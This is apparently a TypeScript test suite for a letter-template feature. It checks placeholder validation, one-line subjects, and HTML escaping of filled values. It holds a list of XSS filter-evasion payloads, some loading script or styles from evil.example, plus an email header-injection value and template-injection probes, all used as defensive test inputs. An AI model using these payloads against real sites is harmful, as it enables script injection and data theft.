import fc from 'fast-check';
import { filledLetter } from '#shared/agreements/filled-letter';
import { letterComplaints } from '#shared/agreements/letter-complaints';
import { letterPieces } from '#shared/agreements/letter-pieces';

const codesOf = (text: string, subject = 'Subject') =>
  letterComplaints('answer', { subject, text }).map(({ path, code, values }) => [path[0], code, values['name'] ?? '']);

describe('The words of a letter', () => {
  it.each([
    ['Dear {client}, {text}', []],
    ['{text} {cleint}', [['text', 'letter-placeholder-unknown', 'cleint']]],
    [
      '{text} {{7*7}}',
      [
        ['text', 'letter-brace-alone', ''],
        ['text', 'letter-placeholder-unknown', '7*7'],
        ['text', 'letter-brace-alone', ''],
      ],
    ],
    ['{text} ${7*7}', [['text', 'letter-placeholder-unknown', '7*7']]],
    ['{text} { client }', [['text', 'letter-placeholder-unknown', ' client ']]],
    ['{text} {}', [['text', 'letter-placeholder-unknown', '']]],
    ['{text} }', [['text', 'letter-brace-alone', '']]],
    ['Dear {client}', [['text', 'letter-placeholder-needed', 'text']]],
    ['{text} <%= 7*7 %> #{x', [['text', 'letter-brace-alone', '']]],
  ])('%j are refused for what is wrong with them', (text, expected) => expect(codesOf(text)).toEqual(expected));

  it('are refused in the subject at the subject', () => {
    expect(codesOf('{text}', 'About {jbo}')).toEqual([['subject', 'letter-placeholder-unknown', 'jbo']]);
  });

  it('are taken apart without losing a letter', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('{', '}', 'a', '\n', '$', 'client') }), (text) => {
        const joined = letterPieces(text)
          .map((piece) => (piece.is === 'placeholder' ? `{${piece.name}}` : piece.text))
          .join('');
        expect(joined).toBe(text);
      }),
    );
  });
});

describe('A filled letter', () => {
  const words = { subject: 'For {client}', text: 'Dear {client},\n\nhere:\n{link}\n\n{text}' };

  it('says values as they are: no markup, and no further placeholder', () => {
    const filled = filledLetter(words, {
      client: '{link} <b>Ada</b> & "Co"',
      link: 'https://x.example/#a',
      text: '{client}',
    });
    expect(filled.subject).toBe('For {link} <b>Ada</b> & "Co"');
    expect(filled.text).toBe('Dear {link} <b>Ada</b> & "Co",\n\nhere:\nhttps://x.example/#a\n\n{client}\n');
    expect(filled.html).toBe(
      [
        '<p>Dear {link} &lt;b&gt;Ada&lt;/b&gt; &amp; &quot;Co&quot;,</p>',
        '<p>here:<br><a href="https://x.example/#a">https://x.example/#a</a></p>',
        '<p>{client}</p>',
      ].join('\n'),
    );
  });

  it('has one line of subject, whatever a name holds', () => {
    const { subject } = filledLetter(words, { client: 'Ada\r\nBcc: all@evil.example\u2028x\u0000y' });
    expect(subject).toBe('For Ada Bcc: all@evil.example x y');
  });

  it('makes a link of nothing but a web address', () => {
    expect(filledLetter(words, { link: 'javascript:alert(1)' }).html).not.toContain('href');
    expect(filledLetter(words, { link: 'https://x.example/"><script>' }).html).toContain(
      'href="https://x.example/&quot;&gt;&lt;script&gt;"',
    );
  });

  it('holds no sign of markup that a value brought, whatever it was', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (value) => {
        const { html } = filledLetter({ subject: 's', text: '{client}' }, { client: value });
        expect(html.replace(/<\/?p>|<br>/g, '')).not.toMatch(/[<>"']/);
      }),
    );
  });

  // Ways into markup as OWASP's notes on filter evasion collect them (ASVS 1.3.1, 1.3.5).
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<<script>alert(1);//<</script>',
    '<script\n>alert(1)</script\n>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '"><script>alert(1)</script>',
    `'><script>alert(1)</script>`,
    '</p><script>alert(1)</script><p>',
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<math><mtext></table><img src=x onerror=alert(1)>',
    '<body onload=alert(1)>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<form action="//evil.example"><input onfocus=alert(1) autofocus>',
    '<details open ontoggle=alert(1)>',
    '<video><source onerror=alert(1)>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href=//evil.example/x.css>',
    `<style>@import '//evil.example/x.css'</style>`,
    '<template><script>alert(1)</script></template>',
    '[x](javascript:alert(1)) ![x](x"onerror="alert(1))',
  ])('holds %j as text, in the words of the workshop and in a value', (payload) => {
    const plain = (html: string) => html.replace(/<\/?p>|<br>/g, '');
    const unescaped = (html: string) =>
      plain(html.replace(/<br>/g, '\n'))
        .replace(/&lt;/g, '<')
        .replace(/&gt;/g, '>')
        .replace(/&quot;/g, '"')
        .replace(/&#0?39;/g, "'")
        .replace(/&amp;/g, '&');
    for (const { html } of [
      filledLetter({ subject: 's', text: payload }, {}),
      filledLetter({ subject: 's', text: '{client}' }, { client: payload }),
    ]) {
      expect(plain(html)).not.toMatch(/[<>"']/);
      expect(unescaped(html)).toBe(payload);
    }
  });
});
